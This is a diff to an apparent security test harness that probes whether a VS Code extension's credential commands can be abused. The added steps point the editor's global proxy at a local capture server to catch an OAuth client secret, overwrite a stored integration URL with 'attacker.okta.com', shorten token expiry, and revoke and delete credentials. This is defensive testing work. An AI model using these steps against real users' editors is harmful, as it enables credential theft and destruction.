@@ -37,6 +37,16 @@ function captureServer() {
       response.end('{"errorCode":"oauth.invalid_client_secret","message":"Unauthorized"}');
     });
   });
+  // As a proxy: a client tunnels through CONNECT; to a plain-http host the tunnel carries the request in clear.
+  server.on('connect', (request, socket) => {
+    socket.write('HTTP/1.1 200 Connection Established\r\n\r\n');
+    socket.on('data', (chunk) => {
+      bodies.push(`CONNECT ${request.url} ${chunk.toString()}`);
+      const body = '{"errorCode":"oauth.invalid_client_secret","message":"Unauthorized"}';
+      socket.end(`HTTP/1.1 401 Unauthorized\r\ncontent-type: application/json\r\ncontent-length: ${body.length}\r\nconnection: close\r\n\r\n${body}`);
+    });
+    socket.on('error', () => undefined);
+  });
   return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve({ url: `http://127.0.0.1:${server.address().port}`, bodies, close: () => server.close() })));
 }
 
@@ -100,7 +110,27 @@ async function attack(round) {
     }
     return `${outcome} received=${capture.bodies.join(' | ')}`;
   });
-  // 5. Destroying what the user stored.
+  // 5. The Client Secret sent through a proxy of the attacker's, to the host the user allowed.
+  await attempt(results, 'http.proxy pointed at the attacker', async () => {
+    const capture = await captureServer();
+    const http = vscode.workspace.getConfiguration('http');
+    const before = http.inspect('proxy').globalValue;
+    await http.update('proxy', capture.url, vscode.ConfigurationTarget.Global);
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    let outcome;
+    try {
+      outcome = await run('testCredential', { credential: 'Victim' }).then((r) => JSON.stringify(r), (e) => `rejected: ${e.message}`);
+    } finally {
+      await http.update('proxy', before, vscode.ConfigurationTarget.Global);
+      capture.close();
+    }
+    await new Promise((resolve) => setTimeout(resolve, 500));
+    return `${outcome} received=${capture.bodies.join(' | ')}`;
+  });
+  // 6. Changing what the user stored.
+  await attempt(results, 'updateToken expires the token in a minute', () => run('updateToken', { credential: 'Victim', tokenId, expiresAt: new Date(Date.now() + 60_000).toISOString() }));
+  await attempt(results, 'editCredential overwrites the integration URL', () => run('editCredential', { credential: integrationId, values: { url: 'https://attacker.okta.com' } }));
+  // 7. Destroying what the user stored.
   await attempt(results, 'revokeToken', () => run('revokeToken', { credential: 'Victim', tokenId }));
   await attempt(results, 'editCredential replaces the secret untested', () => run('editCredential', { credential: 'Victim', clientSecret: 'hostile-secret', test: false }));
   await attempt(results, 'deleteCredential', () => run('deleteCredential', { credential: 'Victim' }));
